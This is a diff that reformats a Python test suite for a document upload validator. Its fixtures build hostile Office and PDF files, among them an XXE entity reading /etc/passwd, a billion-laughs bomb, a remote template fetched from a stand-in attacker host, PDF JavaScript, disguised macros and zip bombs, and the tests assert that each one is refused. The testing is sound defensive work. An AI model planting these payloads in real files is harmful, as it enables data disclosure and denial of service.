@@ -1,4 +1,5 @@
 """Upload checks against good files and hand-built hostile ones; no app or database needed."""
+
 import hashlib
 import io
 import struct
@@ -26,6 +27,7 @@ REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 # --- builders ------------------------------------------------------------------------------------------
+
 
 def make_docx():
     document = docx.Document()
@@ -66,6 +68,7 @@ def substitute(old, new):
     def change(content):
         assert old in content
         return content.replace(old, new)
+
     return change
 
 
@@ -76,7 +79,7 @@ def patch_central(data, name, field, value):
     position = buffer.find(b"PK\x01\x02")
     while position != -1:
         name_length = struct.unpack_from("<H", buffer, position + 28)[0]
-        if buffer[position + 46:position + 46 + name_length] == name.encode():
+        if buffer[position + 46 : position + 46 + name_length] == name.encode():
             struct.pack_into("<I", buffer, position + field, value)
             return bytes(buffer)
         position = buffer.find(b"PK\x01\x02", position + 4)
@@ -100,11 +103,11 @@ def make_ole(*names):
     for index, (name, entry_type) in enumerate([("Root Entry", 5)] + [(name, 2) for name in names]):
         encoded = name.encode("utf-16-le") + b"\x00\x00"
         entry = bytearray(128)
-        entry[:len(encoded)] = encoded
+        entry[: len(encoded)] = encoded
         struct.pack_into("<HB", entry, 64, len(encoded), entry_type)
         struct.pack_into("<III", entry, 68, free, free, free)
         struct.pack_into("<I", entry, 116, end_of_chain)
-        directory[index * 128:(index + 1) * 128] = entry
+        directory[index * 128 : (index + 1) * 128] = entry
     return bytes(header) + fat + bytes(directory)
 
 
@@ -139,6 +142,7 @@ def refused(filename, data, **limits):
 
 
 # --- good files ----------------------------------------------------------------------------------------
+
 
 def test_good_docx_is_accepted_unchanged():
     data = make_docx()
@@ -183,6 +187,7 @@ def test_external_hyperlink_is_allowed():
 
 
 # --- type and name -------------------------------------------------------------------------------------
+
 
 def test_too_large_is_checked_first_with_status_413():
     error = refused("bad/name.docx", b"x" * 11, max_bytes=10)
@@ -230,14 +235,17 @@ def test_vietnamese_name_is_kept_and_normalised():
     assert check_upload(decomposed, data, max_bytes=LIMIT).display_name == "Biểu mẫu 01.docx"
 
 
-@pytest.mark.parametrize("filename, expected", [
-    ("Quyết định.pdf", "Quyết định.docx"),
-    ("Quyết định.DOC", "Quyết định.docx"),
-    ("Báo cáo v1.2", "Báo cáo v1.2.docx"),
-    ("  ..ẩn   tên  .docx", "ẩn tên.docx"),
-    (".docx", "document.docx"),
-    ("", "document.docx"),
-])
+@pytest.mark.parametrize(
+    "filename, expected",
+    [
+        ("Quyết định.pdf", "Quyết định.docx"),
+        ("Quyết định.DOC", "Quyết định.docx"),
+        ("Báo cáo v1.2", "Báo cáo v1.2.docx"),
+        ("  ..ẩn   tên  .docx", "ẩn tên.docx"),
+        (".docx", "document.docx"),
+        ("", "document.docx"),
+    ],
+)
 def test_display_name_gets_the_extension_of_the_content(filename, expected):
     assert check_upload(filename, make_docx(), max_bytes=LIMIT).display_name == expected
 
@@ -253,6 +261,7 @@ def test_long_name_is_cut_keeping_the_extension():
 
 
 # --- macros, templates, strict -------------------------------------------------------------------------
+
 
 def test_docm_content_type_is_refused():
     docm = "application/vnd.ms-word.document.macroEnabled.main+xml"
@@ -274,22 +283,29 @@ def test_vba_project_inside_docx_is_refused():
 def test_xlsm_renamed_xlsx_is_refused():
     xlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
     content_types = substitute(XLSX_MAIN.encode(), xlsm.encode())
-    data = rewrite(make_xlsx(), {"[Content_Types].xml": content_types},
-                   add={"xl/vbaProject.bin": bytes(512)})
+    data = rewrite(make_xlsx(), {"[Content_Types].xml": content_types}, add={"xl/vbaProject.bin": bytes(512)})
     assert refused("bang.xlsx", data).code == "macros"
 
 
 def test_strict_ooxml_is_refused():
-    data = rewrite(make_docx(), {
-        "_rels/.rels": substitute(f"{REL}/officeDocument".encode(),
-                                  b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"),
-        "word/document.xml": substitute(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
-                                        b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
-    })
+    data = rewrite(
+        make_docx(),
+        {
+            "_rels/.rels": substitute(
+                f"{REL}/officeDocument".encode(),
+                b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
+            ),
+            "word/document.xml": substitute(
+                b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
+                b"http://purl.oclc.org/ooxml/wordprocessingml/main",
+            ),
+        },
+    )
     assert refused("a.docx", data).code == "strict_ooxml"
 
 
 # --- zip bombs and damage ------------------------------------------------------------------------------
+
 
 def test_zip_bomb_by_entry_count():
     data = rewrite(make_docx(), add={f"customXml/pad{index}.bin": b"" for index in range(2001)})
@@ -316,7 +332,7 @@ def test_zip_bomb_with_lying_size_is_caught_by_real_byte_count():
 
 def test_truncated_file_is_corrupt():
     data = make_docx()
-    assert refused("a.docx", data[:len(data) // 2]).code == "corrupt"
+    assert refused("a.docx", data[: len(data) // 2]).code == "corrupt"
 
 
 def test_bad_crc_is_corrupt():
@@ -331,19 +347,23 @@ def test_entry_name_with_dot_dot_is_corrupt():
 
 # --- XML -----------------------------------------------------------------------------------------------
 
+
 def test_xxe_doctype_in_document_is_refused():
     doctype = b'?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-    data = rewrite(make_docx(), {"word/document.xml": lambda xml: xml.replace(b"?>", doctype, 1)
-                                 .replace(BODY.encode(), b"&xxe;")})
+    data = rewrite(
+        make_docx(), {"word/document.xml": lambda xml: xml.replace(b"?>", doctype, 1).replace(BODY.encode(), b"&xxe;")}
+    )
     assert refused("a.docx", data).code == "doctype"
 
 
 def test_billion_laughs_in_utf16_is_refused():
     """UTF-16 hides the DOCTYPE from a byte search; the parser itself must stop at it."""
     laughs = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
-    styles = ('<?xml version="1.0" encoding="UTF-16"?>'
-              f'<!DOCTYPE w:styles [{"".join(laughs)}]>'
-              '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:styles>')
+    styles = (
+        '<?xml version="1.0" encoding="UTF-16"?>'
+        f"<!DOCTYPE w:styles [{''.join(laughs)}]>"
+        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:styles>'
+    )
     data = rewrite(make_docx(), {"word/styles.xml": styles.encode("utf-16")})
     assert refused("a.docx", data).code == "doctype"
 
@@ -353,23 +373,31 @@ def test_remote_attached_template_is_refused():
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
-        'Target="http://attacker.invalid/template.dotm" TargetMode="External"/></Relationships>')
+        'Target="http://attacker.invalid/template.dotm" TargetMode="External"/></Relationships>'
+    )
     data = rewrite(make_docx(), add={"word/_rels/settings.xml.rels": settings_rels})
     assert refused("a.docx", data).code == "external_link"
 
 
 def test_external_workbook_link_is_refused():
-    link = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-            f'xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>')
-    link_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                 f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
-                 'Target="file:///\\\\server\\share\\luong.xlsx" TargetMode="External"/></Relationships>')
-    data = rewrite(make_xlsx(), add={"xl/externalLinks/externalLink1.xml": link,
-                                     "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
+    link = (
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        f'xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'
+    )
+    link_rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
+        'Target="file:///\\\\server\\share\\luong.xlsx" TargetMode="External"/></Relationships>'
+    )
+    data = rewrite(
+        make_xlsx(),
+        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
+    )
     assert refused("bang.xlsx", data).code == "external_link"
 
 
 # --- PDF -----------------------------------------------------------------------------------------------
+
 
 def test_pdf_with_javascript_is_refused():
     data = make_pdf(catalog_extra="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")
@@ -395,8 +423,10 @@ def test_encrypted_pdf_is_refused():
 
 
 def test_aes256_encrypted_pdf_is_refused_without_an_aes_library():
-    encrypt = (f"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <{'11' * 48}> /U <{'22' * 48}> "
-               f"/OE <{'33' * 32}> /UE <{'44' * 32}> /Perms <{'55' * 16}> >> /ID [<{'66' * 16}> <{'66' * 16}>] ")
+    encrypt = (
+        f"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <{'11' * 48}> /U <{'22' * 48}> "
+        f"/OE <{'33' * 32}> /UE <{'44' * 32}> /Perms <{'55' * 16}> >> /ID [<{'66' * 16}> <{'66' * 16}>] "
+    )
     assert refused("a.pdf", make_pdf(trailer_extra=encrypt)).code == "encrypted"
 
 
@@ -405,6 +435,7 @@ def test_damaged_pdf_is_corrupt():
 
 
 # --- messages ------------------------------------------------------------------------------------------
+
 
 def test_messages_render_inside_an_app_context():
     app = flask.Flask(__name__)
